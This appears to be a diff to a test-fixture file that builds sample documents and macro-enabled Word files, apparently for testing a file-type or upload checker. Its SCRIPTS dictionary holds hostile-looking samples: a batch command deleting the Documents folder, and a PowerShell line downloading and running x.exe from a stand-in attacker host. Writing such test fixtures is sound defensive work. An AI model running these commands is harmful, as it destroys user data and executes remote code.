@@ -66,6 +66,57 @@ def odt() -> bytes:
     )
 
 
+DOCX_PARTS = [
+    ("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
+    ("_rels/.rels", b'<?xml version="1.0"?><Relationships/>'),
+    ("word/document.xml", b'<?xml version="1.0"?><w:document/>'),
+]
+MACRO_CONTENT_TYPES = (
+    b'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="'
+    b'application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
+)
+
+
+def docx_with(*extra: tuple[str, bytes], content_types: bytes | None = None) -> bytes:
+    """A .docx carrying ``extra`` members (macros, embedded objects, programs)."""
+    parts = list(DOCX_PARTS)
+    if content_types is not None:
+        parts[0] = ("[Content_Types].xml", content_types)
+    return _zip(parts + list(extra))
+
+
+def docm() -> bytes:
+    """A macro-enabled Word document, as Word saves one: a VBA project and its content type."""
+    return docx_with(
+        ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 VBA project"),
+        content_types=MACRO_CONTENT_TYPES,
+    )
+
+
+def odt_with(*extra: tuple[str, bytes]) -> bytes:
+    return _zip(
+        [
+            ("mimetype", b"application/vnd.oasis.opendocument.text"),
+            ("content.xml", b'<?xml version="1.0"?><office:document-content/>'),
+            ("META-INF/manifest.xml", b'<?xml version="1.0"?><manifest:manifest/>'),
+            *extra,
+        ]
+    )
+
+
+# Text that runs when opened under its name: each is plain UTF-8 text by content.
+SCRIPTS = {
+    ".bat": b"@echo off\r\ndel /q %USERPROFILE%\\Documents\r\n",
+    ".cmd": b"@echo off\r\nstart calc.exe\r\n",
+    ".ps1": b"Invoke-WebRequest https://evil.example/x.exe -OutFile x.exe; ./x.exe\n",
+    ".hta": b'<html><script language="VBScript">CreateObject("WScript.Shell")</script></html>',
+    ".vbs": b'CreateObject("WScript.Shell").Run "calc.exe"\n',
+    ".js": b'new ActiveXObject("WScript.Shell").Run("calc.exe");\n',
+    ".html": b"<!doctype html><script>document.location='https://evil.example'</script>\n",
+    ".svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n',
+}
+
+
 def plain_zip() -> bytes:
     return _zip([("notes.txt", b"hello"), ("run.bat", b"echo hi")])
 
